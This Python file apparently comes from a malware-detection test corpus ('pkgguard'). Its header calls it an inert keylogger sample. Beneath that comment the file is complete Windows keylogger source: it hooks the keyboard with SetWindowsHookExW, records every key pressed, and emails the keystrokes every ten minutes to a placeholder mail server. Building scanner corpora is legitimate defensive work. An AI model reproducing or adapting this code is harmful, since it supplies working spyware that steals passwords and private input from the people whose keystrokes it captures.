# pkgguard corpus 208 (keylogger), modelled on [stealer-profile]; inert, never run.
import ctypes
import smtplib
import threading
from ctypes import wintypes

keys = []
user32 = ctypes.windll.user32
HOOKPROC = ctypes.WINFUNCTYPE(ctypes.c_long, ctypes.c_int, wintypes.WPARAM, wintypes.LPARAM)


def _proc(n, w, l):
    if w == 0x100:
        keys.append(ctypes.cast(l, ctypes.POINTER(ctypes.c_ulong))[0])
    return user32.CallNextHookEx(None, n, w, l)


def _mail():
    with smtplib.SMTP("mail.example", 587) as m:
        m.sendmail("a@mail.example", ["b@mail.example"], ",".join(map(str, keys)))
    threading.Timer(600, _mail).start()


_hook = user32.SetWindowsHookExW(13, HOOKPROC(_proc), None, 0)
threading.Timer(600, _mail).start()
